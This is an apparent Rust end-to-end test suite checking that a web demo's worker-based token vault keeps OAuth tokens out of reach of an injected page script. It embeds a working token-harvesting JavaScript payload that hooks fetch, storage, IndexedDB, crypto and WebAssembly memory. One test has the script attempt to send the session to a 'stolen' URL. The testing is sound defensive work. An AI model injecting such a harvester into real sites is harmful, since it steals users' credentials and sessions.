//! The demo with its tokens in a vault, and a script in the page that should not be there.

use end_to_end::site::strict_policy;
use end_to_end::stage::{
    CLIENT_ID, HOSTILE_NAME, part, wait_for_error, wait_for_profile, wait_for_state,
};
use end_to_end::{HostileStage, Stage};
use hostile_server::Endpoint;
use serde_json::{Value, json};

/// Runs before everything else in the page, and keeps whatever it can get hold of: what passes through the
/// functions that it replaces, the memory of every WebAssembly instance, every worker.
const THIEF: &str = r#"(() => {
  const seen = [], memories = [], workers = [];
  const { apply } = Reflect, { stringify } = JSON;
  const text = (bytes) => {
    let all = "";
    for (let at = 0; at < bytes.length; at += 8192) {
      all += apply(String.fromCharCode, null, bytes.subarray(at, at + 8192));
    }
    return all;
  };
  const note = (value) => {
    if (typeof value === "string") seen.push(value);
    else if (value instanceof ArrayBuffer) seen.push(text(new Uint8Array(value)));
    else if (ArrayBuffer.isView(value)) {
      seen.push(text(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
    } else if (value instanceof Request) {
      note(value.url);
      note(value.headers);
      value.clone().text().then(note, () => {});
    } else if (value instanceof Response) {
      note(value.headers);
      value.clone().text().then(note, () => {});
    } else if (value instanceof Headers) value.forEach(note);
    else if (Array.isArray(value)) value.forEach(note);
    else if (value && typeof value === "object") {
      try {
        seen.push(stringify(value));
        Object.values(value).forEach((part) => ArrayBuffer.isView(part) && note(part));
      } catch {}
    }
  };
  const watch = (owner, ...names) => {
    for (const name of names) {
      const real = owner[name];
      owner[name] = function (...given) {
        given.forEach(note);
        const result = apply(real, this, given);
        if (result instanceof Promise) result.then(note, () => {});
        else note(result);
        return result;
      };
    }
  };
  watch(window, "fetch", "postMessage");
  watch(JSON, "parse", "stringify");
  watch(Response.prototype, "text", "json", "arrayBuffer");
  watch(Headers.prototype, "get", "set", "append");
  watch(ReadableStreamDefaultReader.prototype, "read");
  watch(TextDecoder.prototype, "decode");
  watch(TextEncoder.prototype, "encode", "encodeInto");
  watch(Storage.prototype, "getItem", "setItem");
  watch(IDBObjectStore.prototype, "put", "add");
  watch(SubtleCrypto.prototype, "sign", "digest", "encrypt", "decrypt", "importKey", "verify");
  watch(Worker.prototype, "postMessage");
  watch(MessagePort.prototype, "postMessage");
  watch(BroadcastChannel.prototype, "postMessage");
  const heard = (Real, all) =>
    class extends Real {
      constructor(...given) {
        super(...given);
        all.push(this);
        this.addEventListener("message", (event) => note(event.data));
      }
    };
  window.Worker = heard(Worker, workers);
  window.BroadcastChannel = heard(BroadcastChannel, []);
  for (const name of ["instantiate", "instantiateStreaming"]) {
    const real = WebAssembly[name];
    WebAssembly[name] = async (...given) => {
      const result = await apply(real, WebAssembly, given);
      const exported = Object.values((result.instance ?? result).exports);
      memories.push(...exported.filter((value) => value instanceof WebAssembly.Memory));
      return result;
    };
  }

  const done = (request) =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const records = async () => {
    const found = [];
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const rows = await done(database.transaction(store).objectStore(store).getAll());
        rows.forEach((row) => found.push(stringify(row), ...Object.values(row)));
      }
      database.close();
    }
    return found;
  };
  const globals = () =>
    Object.getOwnPropertyNames(window).map((name) => {
      try {
        return stringify(window[name]) ?? "";
      } catch {
        return "";
      }
    });
  /** Where a secret is to be found. */
  const find = async (secret) => {
    seen.push(...(await records()).map((part) => (ArrayBuffer.isView(part) ? text(part) : String(part))));
    const places = {
      passing: seen,
      memory: memories.map(({ buffer }) => text(new Uint8Array(buffer))),
      storage: [stringify({ ...sessionStorage }), stringify({ ...localStorage }), document.cookie],
      page: [document.documentElement.outerHTML, location.href, ...globals()],
    };
    return Object.keys(places).filter((place) => places[place].some((text) => text.includes(secret)));
  };
  /** Says something to the vault in the page's place, and waits for the answer. */
  let last = 1000;
  const ask = (command) => {
    const id = ++last;
    return new Promise((resolve) => {
      workers[0].addEventListener("message", ({ data: [said, body] }) => {
        const message = JSON.parse(said);
        if (message.kind !== "answer" || message.id !== id) return;
        resolve({ ...message.answer, body: body && new TextDecoder().decode(body) });
      });
      const message = { kind: "ask", id, url: location.href, command };
      workers[0].postMessage([JSON.stringify(message), undefined]);
    });
  };
  const say = (message) => workers[0].postMessage([JSON.stringify(message), undefined]);
  const counts = () => ({ seen: seen.length, memories: memories.length, workers: workers.length });
  Object.defineProperty(window, "thief", { value: { find, ask, say, counts } });
})();"#;

/// The demo at a case of the hostile server, with the script in its pages.
fn stage(case: &str, has_vault: bool) -> HostileStage {
    let stage = HostileStage::new(case);
    let issuer = stage.server.issuer(case);
    stage.site.set_settings(json!({
        "issuer": issuer,
        "client_id": CLIENT_ID,
        "scope": "openid profile email offline_access",
        "resource_server": issuer,
        "resource_server_takes_dpop": true,
        "vault": has_vault,
    }));
    stage.browser.before_every_page(THIEF);
    stage
}

/// Signs in, looks at the profile, renews the token and calls the API.
fn use_everything(stage: &HostileStage) {
    stage.try_to_sign_in();
    wait_for_profile(&stage.browser, HOSTILE_NAME);
    stage.browser.click(part::PROFILE_LINK);
    stage.browser.click(part::RENEW);
    stage.browser.wait_until("the renewal", || (stage.count(Endpoint::Token) == 2).then_some(()));
    stage.browser.wait_for(part::RENEWAL);
    stage.browser.click(part::MAIL_LINK);
    stage.browser.wait_until("the call", || (stage.count(Endpoint::Api) > 0).then_some(()));
    stage.browser.wait_for(part::MAIL);
}

/// The access and refresh tokens that the server has seen.
fn tokens(stage: &HostileStage) -> Vec<String> {
    let mut tokens = vec![stage.server.access_token(&stage.case)];
    for recorded in stage.server.requests(&stage.case) {
        let header = recorded.request.header("authorization").unwrap_or_default();
        tokens.extend(header.split_once(' ').map(|(_, token)| token.to_owned()));
        let sent = recorded.request.form_parameters();
        let refresh_token = sent.into_iter().find(|(name, _)| name == "refresh_token");
        tokens.extend(refresh_token.map(|(_, value)| value));
    }
    tokens.sort();
    tokens.dedup();
    assert!(tokens.len() >= 3, "two access tokens and a refresh token: {tokens:?}");
    tokens
}

/// How every signed token begins, such as the ID token: `{"alg":`.
const SIGNED: &str = "eyJhbGciOi";

fn places(stage: &HostileStage, secret: &str) -> Vec<String> {
    let found = stage.browser.execute(&format!("return thief.find({})", json!(secret)));
    let places = found.as_array().expect("places");
    places.iter().map(|place| place.as_str().unwrap_or_default().to_owned()).collect()
}

#[test]
#[cfg_attr(feature = "webkit", ignore = "the driver runs no script before a page")]
fn t85_a_script_in_the_page_finds_no_token_where_there_is_a_vault() {
    for case in ["refresh", "t78-401-until-renewed-dpop"] {
        let stage = stage(case, true);
        use_everything(&stage);
        let counts = || stage.browser.execute("return thief.counts()");
        // The app's, and the lesson's, which comes after the sign-in.
        stage.browser.wait_until("two programs", || (counts()["memories"] == 2).then_some(()));
        let counts = counts();
        assert!(counts["seen"].as_u64() > Some(100), "{counts}");
        assert_eq!(counts["workers"], 1, "{counts}");
        for token in tokens(&stage).iter().map(String::as_str).chain([SIGNED]) {
            assert_eq!(places(&stage, token), Vec::<String>::new(), "{case}: {token}");
        }
        // It does look everywhere.
        let name = places(&stage, HOSTILE_NAME);
        assert!(["passing", "memory"].iter().all(|place| name.contains(&(*place).to_owned())));
    }
}

#[test]
#[cfg_attr(feature = "webkit", ignore = "the driver runs no script before a page")]
fn t85_the_same_script_finds_them_in_a_page_without_one() {
    let stage = stage("refresh", false);
    use_everything(&stage);
    for token in tokens(&stage).iter().map(String::as_str).chain([SIGNED]) {
        let found = places(&stage, token);
        assert!(found.contains(&"passing".to_owned()), "{token}: {found:?}");
    }
}

#[test]
#[cfg_attr(feature = "webkit", ignore = "the driver runs no script before a page")]
fn t85_a_script_in_the_page_can_use_the_session_while_the_page_is_open() {
    let stage = stage("refresh", true);
    stage.try_to_sign_in();
    wait_for_profile(&stage.browser, HOSTILE_NAME);
    let ask = |command: Value| stage.browser.execute(&format!("return thief.ask({command})"));
    let fetch = |to: &str| {
        let request = json!({"method": "GET", "url": to, "headers": [], "timeout": 5000});
        json!({"kind": "fetch", "request": request})
    };
    // This is the limit (RFC 10017 section 5.1.3): what the app may do, the script may do.
    assert_eq!(ask(json!({"kind": "refresh"}))["answer"]["kind"], "done");
    let answer = ask(fetch(&format!("{}/api", stage.server.issuer("refresh"))));
    assert_eq!(answer["answer"]["response"]["status"], 200, "{answer}");
    assert!(answer["body"].as_str().is_some_and(|body| body.contains("\"ok\":true")), "{answer}");

    // And this is not: to send the token elsewhere, or to have it.
    let elsewhere = stage.site.url("stolen");
    let other_settings =
        "thief.say({kind: 'start', start: {version: '0.1.0', config: {}, entries: []}})";
    stage.browser.execute(other_settings);
    assert_eq!(ask(fetch(&elsewhere))["error"]["code"], "origin_not_allowed");
    assert_eq!(ask(json!({"kind": "expose_access_token"}))["error"]["code"], "invalid_config");
    assert!(!stage.site.requests().iter().any(|request| request.path.ends_with("stolen")));
    for token in tokens(&stage) {
        assert_eq!(places(&stage, &token), Vec::<String>::new(), "{token}");
    }
}

/// Tells the console of each violation: it outlives the pages.
const LISTENER: &str = "addEventListener('securitypolicyviolation', event =>
    console.error('violated', event.violatedDirective, event.blockedURI, event.sample))";

#[test]
#[cfg_attr(feature = "webkit", ignore = "the driver runs no script before a page")]
fn a_vault_works_under_the_strict_policy_at_the_real_provider() {
    let stage = Stage::with_provider(&[], |_| json!({"vault": true}));
    let (issuer, resource) = (stage.provider.issuer.clone(), stage.provider.resource.clone());
    stage.site.set_headers(vec![strict_policy(&[&issuer, &resource], &[&issuer])]);
    stage.browser.before_every_page(LISTENER);
    stage.sign_in();
    stage.browser.click(part::MAIL_LINK);
    stage.browser.click(part::ASK_MAIL);
    stage.provider.allow(&stage.browser);
    stage.browser.wait_for(part::MAIL);
    stage.browser.click(part::SIGN_OUT);
    stage.browser.wait_for(part::SIGN_IN);
    let violations = stage
        .browser
        .console()
        .unwrap_or_default()
        .into_iter()
        .filter(|line| line.contains("violated"));
    assert_eq!(violations.collect::<Vec<_>>(), Vec::<String>::new());
    // The tokens were never here: neither the page nor its storage had anything to forget.
    let kept = stage.browser.session_storage();
    assert!(kept.iter().all(|(key, _)| !key.contains(":session:") && !key.contains(":metadata:")));
}

#[test]
#[cfg_attr(feature = "webkit", ignore = "the driver runs no script before a page")]
fn a_vault_that_can_not_be_loaded_is_told_and_nothing_takes_its_place() {
    let no_worker = ("Content-Security-Policy".to_owned(), "worker-src 'none'".to_owned());
    for (script, headers) in [(Some("throw new Error('broken')"), vec![]), (None, vec![no_worker])]
    {
        let stage = stage("refresh", true);
        if let Some(script) = script {
            stage.site.add_page("vault/pixy-login-vault.js", script);
        }
        stage.site.set_headers(headers);
        stage.browser.open(&stage.site.url(""));
        wait_for_state(&stage.browser, "failed");
        assert_eq!(wait_for_error(&stage.browser), "vault_unavailable");
        stage.browser.click(part::RETRY);
        assert_eq!(wait_for_error(&stage.browser), "vault_unavailable");
        assert!(stage.server.requests("refresh").is_empty(), "nothing is done without it");
        stage.browser.click(part::PROFILE_LINK);
        stage.browser.click(part::HOME_LINK);
    }
}
